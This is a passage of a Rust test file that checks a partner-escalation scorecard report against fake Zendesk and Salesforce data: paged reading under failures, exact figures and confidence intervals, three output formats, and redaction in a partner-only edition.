//! The partner scorecard: a few hundred generated tickets on the fake Zendesk and the same
//! cases on the fake Salesforce, read back page by page (cursor, `nextRecordsUrl`, rate
//! limits), checked figure by figure against values counted here from the generated cases.

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, Duration, TimeZone, Utc};
use escalation_gate::helpdesk::records::Period;
use escalation_gate::offline::report::render::{self, Format};
use escalation_gate::offline::report::{self, Audience, Figures, Options, Scorecard};
use escalation_gate::runtime::connector::Connector;
use serde_json::{Map, Value, json};

use crate::fakes::salesforce::{FakeArticle, FakeSalesforce, State_};
use crate::fakes::zendesk::*;
use crate::helpers::{self, *};
use crate::salesforce as sf;

const PARTNERS: [(&str, u64); 3] = [
    ("Acme IT Services", 501),
    ("Northwind Support", 502),
    ("Contoso Partners", 503),
];
const IN_PERIOD: u64 = 330;
const KEY: &str = "a-report-link-secret-of-more-than-32-characters";

/// What the judge (and a person, and the survey) recorded on one generated case.
#[derive(Debug, Clone)]
struct Spec {
    id: u64,
    partner: Option<&'static str>,
    created: DateTime<Utc>,
    escalated: bool,
    /// `good`, `bad` or `review`.
    verdict: Option<&'static str>,
    reviewed: Option<&'static str>,
    /// The reason a reviewer recorded with an overturn.
    overturn: Option<&'static str>,
    reasons: Vec<&'static str>,
    fields: Vec<&'static str>,
    article: Option<&'static str>,
    late: bool,
    kb_gap: bool,
    product: &'static str,
    subject: String,
    sent: bool,
    answered: bool,
    csat: Option<u8>,
    ces: Option<u8>,
    about: Option<&'static str>,
    comment: Option<String>,
    /// The answer is only in tags (no fields): an older write-back, or fields not mapped.
    tags_only: bool,
}

/// The generated cases: 330 in Q1 2026 over three partners (every 37th without one), and 15
/// outside the period that must not count.
fn specs() -> Vec<Spec> {
    let start = Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap();
    let mut out = Vec::new();
    for i in 0..IN_PERIOD + 15 {
        let r = lcg(i + 7) >> 33;
        let created = if i < IN_PERIOD {
            start + Duration::minutes((i as i64) * 390 + (r % 300) as i64)
        } else if i < IN_PERIOD + 10 {
            Utc.with_ymd_and_hms(2026, 4, 1, 0, 0, 0).unwrap() + Duration::hours(i as i64)
        } else {
            start - Duration::hours(i as i64)
        };
        let partner = (i % 37 != 5).then(|| PARTNERS[(i % 3) as usize].0);
        let escalated = i % 4 != 0;
        let pick = r % 100;
        let mut s = Spec {
            id: 10_000 + i,
            partner,
            created,
            escalated,
            verdict: None,
            reviewed: None,
            overturn: None,
            reasons: vec![],
            fields: vec![],
            article: None,
            late: escalated && r.is_multiple_of(7),
            kb_gap: false,
            product: if r.is_multiple_of(2) {
                "Ledgerly Invoicing"
            } else {
                "Ledgerly Payroll"
            },
            subject: format!("Case {i}: totals look wrong"),
            sent: i % 2 == 0,
            answered: i % 6 == 0,
            csat: None,
            ces: None,
            about: None,
            comment: None,
            tags_only: i % 12 == 0,
        };
        if escalated {
            match pick {
                0..55 => {
                    s.verdict = Some("good");
                    if pick < 12 {
                        s.kb_gap = true;
                        s.subject = if s.product == "Ledgerly Payroll" {
                            format!("Payslip rounding differs for overtime {i}")
                        } else {
                            format!("Reverse charge VAT on credit note {i}")
                        };
                    }
                }
                55..70 => {
                    s.verdict = Some("bad");
                    s.reasons = vec!["missing_handoff"];
                    s.fields = if pick < 58 {
                        vec!["steps_to_reproduce"]
                    } else if pick < 62 {
                        vec!["steps"]
                    } else {
                        vec!["steps", "environment"]
                    };
                }
                70..82 => {
                    s.verdict = Some("bad");
                    s.reasons = vec!["kb_resolvable"];
                    s.article = Some(if pick < 76 { "360001" } else { "360002" });
                }
                82..88 => s.verdict = Some("review"),
                88..94 => {
                    s.verdict = Some("bad");
                    s.reasons = vec!["kb_resolvable"];
                    s.article = Some("360002");
                    s.reviewed = Some("good");
                    s.overturn = Some("kb_not_applicable");
                }
                _ => {
                    s.verdict = Some("good");
                    s.reviewed = Some("bad");
                    s.overturn = [Some("kb_resolvable"), Some("missing_handoff"), None]
                        [((r >> 20) % 3) as usize];
                }
            }
        }
        if s.answered {
            s.csat = Some(1 + ((r >> 8) % 5) as u8);
            s.ces = Some(1 + ((r >> 12) % 7) as u8);
            s.about =
                [Some("product"), Some("support"), Some("both"), None][((r >> 16) % 4) as usize];
            if !s.tags_only && i % 4 == 2 {
                s.comment = Some(match s.partner {
                    Some("Acme IT Services") => "Hi Ottilie, thanks! The agent was quick. Better than Northwind Support! Call me on +44 20 7946 0958 or jane.doe@customer.example. Regards, Jane Doe".to_string(),
                    _ => "Slow answers.".to_string(),
                });
            }
        }
        out.push(s);
    }
    out
}

fn period() -> Period {
    Period {
        from: Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap(),
        to: Utc.with_ymd_and_hms(2026, 4, 1, 0, 0, 0).unwrap(),
    }
}

// ----- expected figures, counted from the specs ----------------------------------------------

/// The Wilson score interval, written out from Wilson (1927): the bounds are the roots of
/// (p̂ − p)² = z² p (1 − p) / n.
fn wilson_by_hand(k: u64, n: u64) -> (f64, f64, f64) {
    let z = 1.959_963_984_540_054_f64;
    let (k, n) = (k as f64, n as f64);
    let p = k / n;
    // n(p̂ − p)² = z² p(1 − p)  →  (n + z²) p² − (2k + z²) p + k²/n = 0
    let a = n + z * z;
    let b = -(2.0 * k + z * z);
    let c = k * k / n;
    let root = (b * b - 4.0 * a * c).sqrt();
    (p, (-b - root) / (2.0 * a), (-b + root) / (2.0 * a))
}

#[derive(Default, Debug)]
struct Expected {
    cases: u64,
    escalations: u64,
    good: u64,
    bad: u64,
    in_review: u64,
    missing_handoff: u64,
    kb_resolvable: u64,
    late: u64,
    fields: BTreeMap<String, u64>,
    articles: BTreeMap<String, u64>,
    sent: u64,
    answered: u64,
    csat: Vec<u8>,
    csat_escalated: Vec<u8>,
    support_csat: Vec<u8>,
    ces: Vec<u8>,
}

fn expected(specs: &[Spec], partner: &str, month: Option<u32>) -> Expected {
    let mut e = Expected::default();
    for s in specs.iter().filter(|s| {
        s.partner == Some(partner)
            && s.created >= period().from
            && s.created < period().to
            && month.is_none_or(|m| chrono::Datelike::month(&s.created) == m)
    }) {
        e.cases += 1;
        if s.escalated {
            e.escalations += 1;
            e.late += u64::from(s.late);
        }
        let counted = s.reviewed.or(s.verdict.filter(|v| *v != "review"));
        if s.verdict == Some("review") && s.reviewed.is_none() {
            e.in_review += 1;
        }
        match counted {
            Some("good") => e.good += 1,
            Some("bad") => {
                e.bad += 1;
                // The judge's reasons, else the reason the reviewer recorded.
                let reasons = if s.verdict == Some("bad") {
                    s.reasons.clone()
                } else {
                    s.overturn.into_iter().collect()
                };
                e.missing_handoff += u64::from(reasons.contains(&"missing_handoff"));
                e.kb_resolvable += u64::from(reasons.contains(&"kb_resolvable"));
                if s.verdict == Some("bad") {
                    for f in &s.fields {
                        *e.fields.entry(f.to_string()).or_default() += 1;
                    }
                    if let Some(a) = s.article {
                        *e.articles.entry(a.to_string()).or_default() += 1;
                    }
                }
            }
            _ => {}
        }
        e.sent += u64::from(s.sent || s.answered);
        e.answered += u64::from(s.answered);
        if let Some(c) = s.csat {
            e.csat.push(c);
            if s.escalated {
                e.csat_escalated.push(c);
            }
            if s.about != Some("product") {
                e.support_csat.push(c);
            }
        }
        e.ces.extend(s.ces);
    }
    e
}

fn mean(v: &[u8]) -> f64 {
    v.iter().map(|x| f64::from(*x)).sum::<f64>() / v.len() as f64
}

fn close(a: f64, b: f64, what: &str) {
    assert!((a - b).abs() < 1e-9, "{what}: {a} != {b}");
}

/// Every figure of `f` against what the specs say.
fn check_figures(f: &Figures, e: &Expected, min: u64, what: &str) {
    assert_eq!(
        (f.cases, f.escalations, f.good, f.bad, f.in_review),
        (e.cases, e.escalations, e.good, e.bad, e.in_review),
        "{what}: counts"
    );
    close(
        f.escalation_rate.unwrap(),
        e.escalations as f64 / e.cases as f64,
        what,
    );
    let r = &f.bad_reasons;
    assert_eq!(
        (r.missing_handoff, r.kb_resolvable),
        (e.missing_handoff, e.kb_resolvable),
        "{what}: reasons"
    );
    let late = serde_json::to_value(f).unwrap()["late"].clone();
    assert_eq!(
        late,
        json!(e.late),
        "{what}: late, apart from the bad reasons"
    );
    let listed = |l: &[report::Count]| -> BTreeMap<String, u64> {
        l.iter().map(|c| (c.name.clone(), c.count)).collect()
    };
    assert_eq!(listed(&r.missing_fields), e.fields, "{what}: fields");
    assert_eq!(listed(&r.articles), e.articles, "{what}: articles");
    let judged = e.good + e.bad;
    match f.good_ratio {
        Some(g) => {
            assert!(judged >= min, "{what}: a ratio on {judged} < {min}");
            let (p, lo, hi) = wilson_by_hand(e.good, judged);
            close(g.value, p, what);
            assert!(
                (g.low - lo).abs() < 1e-9 && (g.high - hi).abs() < 1e-9,
                "{what}: {g:?} vs ({lo}, {hi})"
            );
        }
        None => assert!(judged < min, "{what}: no ratio on {judged}"),
    }
    let s = &f.surveys;
    assert_eq!(
        (s.all.sent, s.all.answered),
        (e.sent, e.answered),
        "{what}: surveys"
    );
    assert_eq!(s.all.rated, e.csat.len() as u64, "{what}: rated");
    let (_, lo, hi) = wilson_by_hand(e.answered, e.sent);
    let rr = s.all.response_rate.unwrap();
    close(rr.value, e.answered as f64 / e.sent as f64, what);
    assert!((rr.low - lo).abs() < 1e-9 && (rr.high - hi).abs() < 1e-9);
    if e.csat.len() as u64 >= 10 {
        close(s.all.mean.unwrap().value, mean(&e.csat), what);
        close(s.support_csat.unwrap().value, mean(&e.support_csat), what);
        close(s.ces.unwrap().value, mean(&e.ces), what);
        // The normal-approximation interval, by hand.
        let n = e.csat.len() as f64;
        let m = mean(&e.csat);
        let var = e
            .csat
            .iter()
            .map(|x| (f64::from(*x) - m).powi(2))
            .sum::<f64>()
            / (n - 1.0);
        let half = 1.959_963_984_540_054 * (var / n).sqrt();
        assert!((s.all.mean.unwrap().low - (m - half).max(1.0)).abs() < 1e-9);
    } else {
        assert!(
            s.all.mean.is_none(),
            "{what}: a mean on {} answers",
            e.csat.len()
        );
    }
    if e.csat_escalated.len() >= 10 {
        close(
            s.escalated.mean.unwrap().value,
            mean(&e.csat_escalated),
            what,
        );
    }
}

fn check_scorecard(card: &Scorecard, specs: &[Spec]) {
    assert_eq!(
        card.tickets,
        specs
            .iter()
            .filter(|s| s.created >= period().from && s.created < period().to)
            .count() as u64
    );
    assert_eq!(
        card.without_partner,
        Some(
            specs
                .iter()
                .filter(|s| s.partner.is_none()
                    && s.created >= period().from
                    && s.created < period().to)
                .count() as u64
        )
    );
    let names: BTreeSet<&str> = card.partners.iter().map(|p| p.partner.as_str()).collect();
    assert_eq!(names, PARTNERS.iter().map(|p| p.0).collect());
    for p in &card.partners {
        let e = expected(specs, &p.partner, None);
        check_figures(&p.period, &e, card.contracts.min_escalations, &p.partner);
        assert_eq!(
            p.months
                .iter()
                .map(|m| m.month.as_str())
                .collect::<Vec<_>>(),
            ["2026-01", "2026-02", "2026-03"]
        );
        for (i, m) in p.months.iter().enumerate() {
            let e = expected(specs, &p.partner, Some(i as u32 + 1));
            check_figures(
                &m.figures,
                &e,
                card.contracts.min_escalations,
                &format!("{} {}", p.partner, m.month),
            );
        }
    }
    // The knowledge view: the gaps by product, with the words their subjects share.
    let k = card.knowledge.as_ref().unwrap();
    for product in ["Ledgerly Payroll", "Ledgerly Invoicing"] {
        let n = specs
            .iter()
            .filter(|s| {
                s.kb_gap
                    && s.partner.is_some()
                    && s.product == product
                    && s.created < period().to
                    && s.created >= period().from
                    && s.reviewed.is_none_or(|r| r == "good")
            })
            .count() as u64;
        let gap = k.gaps.iter().find(|g| g.product == product).unwrap();
        assert_eq!(gap.escalations, n, "{product}");
    }
    let payroll = k
        .gaps
        .iter()
        .find(|g| g.product == "Ledgerly Payroll")
        .unwrap();
    assert!(
        payroll.terms.iter().take(4).any(|t| t == "overtime"),
        "{:?}",
        payroll.terms
    );
    assert!(
        !payroll.terms.contains(&"case".to_string()),
        "{:?}",
        payroll.terms
    );
}

// ----- the helpdesks -----------------------------------------------------------------------

const CONTRACTS: &str = r#"
[report]
target = 0.80
min_escalations = 20
min_answers = 10

[[report.tiers]]
name = "Gold"
label = "discount +5 %"
min_good_ratio = 0.90
min_support_csat = 4.3

[[report.tiers]]
name = "Silver"
label = "discount +2 %"
min_good_ratio = 0.60

[report.partners."Northwind Support"]
target = 0.70
"#;

fn survey_table() -> String {
    survey_toml(
        "kind = \"webhook\"\nurl = \"http://127.0.0.1:9/requests\"\nsecret = \"${SURVEY_WHSEC}\"",
        "kind = \"ticket\"\ncsat_field = \"csat_score\"\nces_field = \"ces_score\"\nabout_field = \"csat_about\"\ncomment_field = \"csat_comment\"",
    )
}

fn zendesk_ticket(s: &Spec) -> Value {
    let mut tags: Vec<String> = vec!["partner_case".into()];
    let p = "escalation_";
    match s.verdict {
        Some("review") => tags.push(format!("{p}review")),
        Some(v) => tags.push(format!("{p}{v}")),
        None => {}
    }
    tags.extend(s.reasons.iter().map(|r| format!("{p}{r}")));
    tags.extend(s.fields.iter().map(|f| format!("{p}missing_{f}")));
    tags.extend(s.article.map(|a| format!("{p}kb_article_{a}")));
    if s.late {
        tags.push(format!("{p}late"));
    }
    if s.kb_gap {
        tags.push(format!("{p}kb_gap"));
    }
    if let Some(r) = s.reviewed {
        tags.push(format!("{p}reviewed_{r}"));
    }
    tags.extend(s.overturn.map(|o| format!("{p}overturn_{o}")));
    if s.sent {
        tags.push("csat_blind_sent".into());
    }
    let mut custom = vec![json!({"id": PRODUCT, "value": s.product})];
    if s.answered {
        tags.push("csat_blind_answered".into());
        let (csat, ces) = (s.csat.unwrap(), s.ces.unwrap());
        if s.tags_only {
            tags.push(format!("csat_blind_score_{csat}"));
            tags.push(format!("csat_blind_ces_{ces}"));
            tags.extend(s.about.map(|a| format!("csat_blind_about_{a}")));
        } else {
            custom.push(json!({"id": CSAT, "value": csat.to_string()}));
            custom.push(json!({"id": CES, "value": ces.to_string()}));
            custom.push(json!({"id": ABOUT, "value": s.about}));
            custom.push(json!({"id": COMMENT, "value": s.comment}));
        }
    }
    json!({
        "id": s.id,
        "subject": s.subject,
        "description": "generated",
        "status": "solved",
        "tags": tags,
        "requester_id": REQUESTER_ID,
        "organization_id": s.partner.map(|p| PARTNERS.iter().find(|x| x.0 == p).unwrap().1),
        "created_at": stamp(s.created),
        "updated_at": stamp(s.created + Duration::hours(30)),
        "via": {"channel": "email"},
        "custom_fields": custom,
    })
}

/// The fake Zendesk with the partners' organizations and every generated ticket.
async fn seeded_zendesk(specs: &[Spec]) -> FakeZendesk {
    let zendesk = zendesk().await;
    for (name, id) in PARTNERS.into_iter().filter(|p| p.1 != ORG_ID) {
        zendesk.put_organization(json!({"id": id, "name": name}));
    }
    for s in specs {
        zendesk.put_ticket(zendesk_ticket(s));
    }
    zendesk
}

/// The variables of [`survey_table`].
fn survey_vars() -> Vec<(&'static str, String)> {
    vec![
        ("APP_URL", "http://127.0.0.1:8080".to_string()),
        ("SURVEY_KEY", KEY.to_string()),
        ("SURVEY_OLD_KEY", KEY.to_string()),
        ("SURVEY_WHSEC", sf::SIGNING_SECRET.to_string()),
    ]
}

fn zendesk_connector(zendesk: &FakeZendesk) -> Connector {
    zendesk_connector_with(zendesk, format!("{}{}", survey_table(), CONTRACTS))
}

/// The test connector with `extra_toml` (its `[survey]` and `[report]`).
fn zendesk_connector_with(zendesk: &FakeZendesk, extra_toml: String) -> Connector {
    let opts = helpers::Options {
        extra_toml,
        vars: survey_vars(),
        ..helpers::Options::default()
    };
    build_connector(zendesk, "acme", &opts)
}

async fn scorecard(connector: &Connector, partner: Option<&str>, audience: Audience) -> Scorecard {
    report::build(
        report::Source::of(connector).expect("the helpdesk reads a period back"),
        &Options {
            period: period(),
            partner: partner.map(str::to_string),
            audience,
        },
        &indicatif::ProgressBar::hidden(),
    )
    .await
    .unwrap()
}

/// The vendor's scorecard of the generated tickets, read from the fake Zendesk while its export
/// answers with `failures` first; checked figure by figure.
async fn checked_export_scorecard(failures: Vec<Failure>) -> (FakeZendesk, Scorecard) {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let connector = zendesk_connector(&zendesk);
    zendesk.fail_next("GET /api/v2/search/export", failures);
    let card = scorecard(&connector, None, Audience::Vendor).await;
    check_scorecard(&card, &specs);
    (zendesk, card)
}

#[tokio::test]
async fn zendesk_scorecard_figure_by_figure_through_export_pages() {
    // The first page is refused with a Retry-After longer than one call waits (3 s): the
    // paged read waits it out and asks again.
    let (zendesk, card) = checked_export_scorecard(vec![Failure::RateLimited {
        retry_after_secs: 4,
    }])
    .await;
    let exports: Vec<_> = zendesk
        .requests()
        .into_iter()
        .filter(|r| r.path.starts_with("/api/v2/search"))
        .collect();
    assert!(
        exports
            .iter()
            .all(|r| r.path == "/api/v2/search/export.json"),
        "never the plain search"
    );
    // 335 tickets in the period's query (330 + none outside), 100 a page: 4 pages + the 429.
    assert_eq!(exports.iter().filter(|r| r.status == 200).count(), 4);
    assert_eq!(exports.iter().filter(|r| r.status == 429).count(), 1);
    let q = exports[1].query.clone().unwrap();
    assert!(
        q.contains("filter%5Btype%5D=ticket") && q.contains("page%5Bsize%5D=100"),
        "{q}"
    );
    assert!(
        exports[2]
            .query
            .as_ref()
            .unwrap()
            .contains("page%5Bafter%5D=")
    );
    // Tiers: Silver is missed by nobody on a straddling interval without saying so.
    for p in &card.partners {
        let t = p.tier.as_ref().unwrap();
        let ratio = p.period.good_ratio.unwrap();
        if t.reached.as_deref() == Some("Silver") {
            assert!(ratio.value >= 0.60);
            assert_eq!(t.next.as_deref(), Some("Gold"));
            assert!(!t.missed_by.is_empty());
        }
        let straddles =
            ratio.low < 0.60 && ratio.high >= 0.60 || ratio.low < 0.90 && ratio.high >= 0.90;
        assert_eq!(t.uncertain, straddles, "{}: {t:?} {ratio:?}", p.partner);
    }
    let northwind = card
        .partners
        .iter()
        .find(|p| p.partner == "Northwind Support")
        .unwrap();
    assert_eq!(northwind.period.target, 0.70);
}

#[tokio::test]
async fn a_truncated_page_and_an_html_page_in_an_export_are_read_again() {
    // The second page's answer breaks off half-way; the third comes as a proxy's HTML page.
    let (zendesk, _) = checked_export_scorecard(vec![
        Failure::Served,
        Failure::Truncated,
        Failure::Served,
        Failure::HtmlPage,
    ])
    .await;
    // Four pages, the second and the third read twice.
    assert_eq!(zendesk.count("GET /api/v2/search/export"), 6);
}

#[tokio::test]
async fn an_export_that_keeps_failing_fails_the_report_within_the_retry_budget() {
    let zendesk = seeded_zendesk(&specs()).await;
    zendesk.fail_next("GET /api/v2/search/export", vec![Failure::Status(500); 100]);
    let dir = connectors_dir(&connector_toml(API_TOKEN_AUTH, "helpdesk", CONTRACTS));
    let out = run_command("report", &FIRST_QUARTER, dir.path(), &zendesk).await;
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    let host = zendesk.url().trim_start_matches("http://").to_string();
    assert!(
        err.contains("search_export: unavailable after 4 attempts")
            && err.contains(&format!("{host} answered HTTP 500")),
        "{err}"
    );
    assert_eq!(
        zendesk.count("GET /api/v2/search/export"),
        4,
        "the first attempt and the connector's 3 retries"
    );
}

#[tokio::test]
async fn the_three_formats_and_the_partner_edition() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let connector = zendesk_connector(&zendesk);
    let vendor = scorecard(&connector, None, Audience::Vendor).await;
    // CSV: one row per partner and month, then the partner's period, figures as in the
    // scorecard.
    let csv = render::render(&vendor, Format::Csv).unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let header = rows.headers().unwrap().clone();
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}: {header:?}"))
    };
    // Late escalations are not among the bad reasons: they count good ones too.
    assert!(col("late_escalations") < col("good"), "{header:?}");
    assert!(!header.iter().any(|h| h == "late"), "{header:?}");
    let records: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 12);
    for r in &records {
        let month = (&r[col("month")] != "period").then(|| r[col("month")][5..].parse().unwrap());
        let e = expected(&specs, &r[col("partner")], month);
        assert_eq!(r[col("late_escalations")].parse::<u64>().unwrap(), e.late);
        assert_eq!(r[col("cases")].parse::<u64>().unwrap(), e.cases);
        assert_eq!(r[col("good")].parse::<u64>().unwrap(), e.good);
        assert_eq!(r[col("bad")].parse::<u64>().unwrap(), e.bad);
        let judged = e.good + e.bad;
        if judged >= 20 {
            let (p, lo, _) = wilson_by_hand(e.good, judged);
            assert_eq!(r[col("good_ratio")], format!("{p:.4}"));
            assert_eq!(r[col("good_ratio_low")], format!("{lo:.4}"));
        } else {
            assert_eq!(&r[col("good_ratio")], "");
            assert_eq!(&r[col("against_target")], "not enough data");
        }
        // The CSAT a tier rests on is the period's: its row carries it.
        if month.is_none() {
            let p = vendor
                .partners
                .iter()
                .find(|p| p.partner == r[col("partner")])
                .unwrap();
            let support = p
                .period
                .surveys
                .support_csat
                .map(|e| format!("{:.2}", e.value));
            assert_eq!(r[col("support_csat")], support.unwrap_or_default());
            if p.partner == "Acme IT Services" {
                assert_eq!(r[col("csat")], format!("{:.2}", mean(&e.csat)));
            }
        }
    }
    assert_eq!(
        records
            .iter()
            .filter(|r| &r[col("month")] == "period")
            .count(),
        3
    );
    // HTML: each month chart's target line lies at the partner's target, on the band's edge.
    let html = render::html(&vendor);
    let band = regex::Regex::new(
        r#"class="target-band" x="[\d.]+" y="([\d.]+)" width="[\d.]+" height="([\d.]+)""#,
    )
    .unwrap();
    let line =
        regex::Regex::new(r#"<line class="target" x1="[\d.]+" x2="[\d.]+" y1="([\d.]+)""#).unwrap();
    let bands: Vec<(f64, f64)> = band
        .captures_iter(&html)
        .map(|c| (c[1].parse().unwrap(), c[2].parse().unwrap()))
        .collect();
    let lines: Vec<f64> = line
        .captures_iter(&html)
        .map(|c| c[1].parse().unwrap())
        .collect();
    assert_eq!((bands.len(), lines.len()), (3, 3));
    for (p, ((top, height), y)) in vendor.partners.iter().zip(bands.iter().zip(&lines)) {
        // The plot runs from y = 190 (0 %) up to y = 12 (100 %).
        assert!(
            (y - (190.0 - p.period.target * 178.0)).abs() < 0.06,
            "{}: {y}",
            p.partner
        );
        assert!((top + height - y).abs() < 0.06);
    }
    // JSON: the same scorecard.
    let json: Value =
        serde_json::from_str(&render::render(&vendor, Format::Json).unwrap()).unwrap();
    assert_eq!(json["partners"].as_array().unwrap().len(), 3);
    assert_eq!(json["tickets"], json!(vendor.tickets));
    // The partner edition: its own figures, bad escalations and comments, nobody else.
    let acme = scorecard(&connector, Some("Acme IT Services"), Audience::Partner).await;
    assert_eq!(acme.partners.len(), 1);
    assert!(acme.knowledge.is_none() && acme.without_partner.is_none());
    let e = expected(&specs, "Acme IT Services", None);
    check_figures(&acme.partners[0].period, &e, 20, "acme edition");
    let bad = acme.partners[0].bad_escalations.as_ref().unwrap();
    assert_eq!(bad.len() as u64, e.bad);
    assert!(
        bad.iter()
            .any(|b| b.missing_fields == ["steps", "environment"])
    );
    assert!(bad.iter().any(|b| b.articles == ["360001"]));
    let comments = acme.partners[0].comments.as_ref().unwrap();
    let about_support = specs
        .iter()
        .filter(|s| s.partner == Some("Acme IT Services") && s.created < period().to)
        .filter(|s| s.comment.is_some() && matches!(s.about, Some("support" | "both")))
        .count();
    assert!(about_support > 0);
    assert_eq!(comments.len(), about_support);
    for c in comments {
        assert!(
            !c.contains("jane.doe")
                && !c.contains("7946")
                && !c.contains("Jane")
                && !c.contains("Ottilie"),
            "{c}"
        );
        assert!(!c.contains("Northwind"), "{c}");
    }
    // Partners read words, not codes.
    let html = render::html(&acme);
    for words in [
        "hand-off fields missing",
        "an existing article answers it",
        "steps to reproduce",
    ] {
        assert!(html.contains(words), "{words}");
    }
    for code in ["missing_handoff", "kb_resolvable", "steps_to_reproduce"] {
        assert!(!html.contains(code), "{code}");
    }
    let json: Value = serde_json::from_str(&render::render(&acme, Format::Json).unwrap()).unwrap();
    assert_eq!(
        json["contracts"]["partner_targets"],
        json!({}),
        "other partners' terms"
    );
    for format in [Format::Html, Format::Csv, Format::Json] {
        let text = render::render(&acme, format).unwrap();
        for other in ["Northwind", "Contoso", "Dana", "dana@customer.example"] {
            assert!(!text.contains(other), "{format:?} names {other}");
        }
    }
}

#[tokio::test]
async fn the_html_report_renders_in_a_browser_with_its_charts() {
    let specs = specs();
    let zendesk = seeded_zendesk(&specs).await;
    let connector = zendesk_connector(&zendesk);
    let vendor = render::html(&scorecard(&connector, None, Audience::Vendor).await);
    let acme =
        render::html(&scorecard(&connector, Some("Acme IT Services"), Audience::Partner).await);
    for html in [&vendor, &acme] {
        assert!(
            !html.contains("<script") && !html.contains("http://") && !html.contains("https://"),
            "self-contained, no external asset"
        );
    }
    // The bad escalations' table: each column's header aligned as its cells.
    let bad_column = |n: usize| {
        (
            format!("section.partner > table:last-of-type th:nth-child({n})"),
            format!("section.partner > table:last-of-type tr:nth-child(2) td:nth-child({n})"),
        )
    };
    let dir = tempfile::tempdir().unwrap();
    // Never skipped: the suite's script installs Chromium, and a missing browser fails here.
    let browser = crate::webdriver::Browser::start()
        .await
        .unwrap_or_else(|why| {
            panic!("the browser test needs Chromium and chromedriver (scripts/test installs them): {why}")
        });
    let run = async {
        let mut seen = Vec::new();
        for (name, html) in [("vendor.html", &vendor), ("acme.html", &acme)] {
            let path = dir.path().join(name);
            std::fs::write(&path, html).unwrap();
            browser.goto(&format!("file://{}", path.display())).await?;
            let months = browser.rect("svg.chart-months").await?;
            let point = browser.rect("svg.chart-months circle.point").await?;
            let band = browser.rect("svg.chart-months rect.target-band").await?;
            let text = browser.text("body").await?;
            seen.push((months, point, band, text));
        }
        let mut aligned = Vec::new();
        for n in 1..=5 {
            let (th, td) = bad_column(n);
            aligned.push((
                n,
                browser.css(&th, "text-align").await?,
                browser.css(&td, "text-align").await?,
            ));
        }
        let bars = browser.rect("svg.chart-months path.whisker").await?;
        browser
            .goto(&format!(
                "file://{}",
                dir.path().join("vendor.html").display()
            ))
            .await?;
        let partners = browser.rect("#chart-partners rect.bar").await?;
        Ok::<_, String>((seen, bars, partners, aligned))
    };
    let result = run.await;
    browser.quit().await;
    let (seen, whisker, partners, aligned) = result.expect("the browser renders the reports");
    for (n, th, td) in &aligned {
        assert_eq!(th, td, "column {n} of the bad escalations");
    }
    for (months, point, band, _) in &seen {
        assert!(months["width"].as_f64().unwrap() > 300.0, "{months}");
        assert!(point["width"].as_f64().unwrap() > 0.0, "{point}");
        assert!(band["height"].as_f64().unwrap() > 0.0, "{band}");
    }
    assert!(whisker["height"].as_f64().unwrap() > 0.0);
    assert!(partners["width"].as_f64().unwrap() > 0.0);
    let (vendor_text, acme_text) = (&seen[0].3, &seen[1].3);
    for p in PARTNERS {
        assert!(vendor_text.contains(p.0));
    }
    assert!(acme_text.contains("Acme IT Services"));
    assert!(
        !acme_text.contains("Northwind") && !acme_text.contains("Contoso"),
        "{acme_text}"
    );
    assert!(acme_text.contains("What customers said about support"));
}

// ----- Salesforce ---------------------------------------------------------------------------

fn sf_case(s: &Spec) -> Map<String, Value> {
    let account = s.partner.map(|p| {
        let i = PARTNERS.iter().position(|x| x.0 == p).unwrap();
        format!("00100000000000{i}AAA")
    });
    let mut reason: Vec<&str> = s.reasons.clone();
    if s.late {
        reason.push("late");
    }
    if s.kb_gap {
        reason.push("kb_gap");
    }
    let mut detail = Vec::new();
    if !s.fields.is_empty() {
        detail.push(format!("missing={}", s.fields.join(",")));
    }
    if let Some(a) = s.article {
        detail.push(format!("kb_article={a}"));
    }
    let cap = |v: &str| match v {
        "good" => "Good",
        "bad" => "Bad",
        _ => "Review",
    };
    let status = if s.answered {
        json!("csat_blind_answered")
    } else if s.sent {
        json!("csat_blind_sent")
    } else {
        Value::Null
    };
    let answered = s.answered;
    let v = json!({
        "Id": format!("500{:012}AAA", s.id),
        "CaseNumber": format!("{:08}", s.id),
        "Subject": s.subject,
        "Description": "generated",
        "CreatedDate": s.created.format("%Y-%m-%dT%H:%M:%S%.3f+0000").to_string(),
        "IsEscalated": s.escalated,
        "Origin": "Email",
        "Type": "Problem",
        "ContactEmail": "dana@customer.example",
        "SuppliedEmail": null,
        "AccountId": account,
        "Language__c": "en_US",
        "Steps_To_Reproduce__c": null,
        "Environment__c": null,
        "Severity__c": null,
        "Product__c": s.product,
        "Version__c": null,
        "Escalation_Quality__c": s.verdict.map(cap),
        "Escalation_Quality_Reason__c": if reason.is_empty() { Value::Null } else { json!(reason.join(", ")) },
        "Escalation_Quality_Detail__c": if detail.is_empty() { Value::Null } else { json!(detail.join("; ")) },
        "Escalation_Reviewed_Quality__c": s.reviewed.map(cap),
        "Escalation_Overturn_Reason__c": s.overturn,
        "Blind_Survey_Status__c": status,
        // Number fields read back as decimals.
        "Blind_CSAT__c": if answered { json!(f64::from(s.csat.unwrap())) } else { Value::Null },
        "Blind_CES__c": if answered { json!(f64::from(s.ces.unwrap())) } else { Value::Null },
        "Blind_CSAT_About__c": if answered { json!(s.about) } else { Value::Null },
        "Blind_Comment__c": s.comment,
        "Contact_Email__c": null,
    });
    v.as_object().unwrap().clone()
}

/// The fake org with the Cases of `specs` (`edit` changes each before it is stored), 200 a query
/// batch, one Knowledge article, and the API request limit met once on the first query.
fn sf_org(specs: &[Spec], edit: impl Fn(&Spec, &mut Map<String, Value>)) -> State_ {
    let mut state = State_::default();
    state.client = Some((sf::CLIENT_ID.into(), sf::CLIENT_SECRET.into()));
    for (i, (name, _)) in PARTNERS.iter().enumerate() {
        state
            .accounts
            .insert(format!("00100000000000{i}AAA"), name.to_string());
    }
    for s in specs {
        let mut c = sf_case(s);
        edit(s, &mut c);
        state.cases.insert(c["Id"].as_str().unwrap().to_string(), c);
    }
    state.query_batch = 200;
    state.articles.push(FakeArticle {
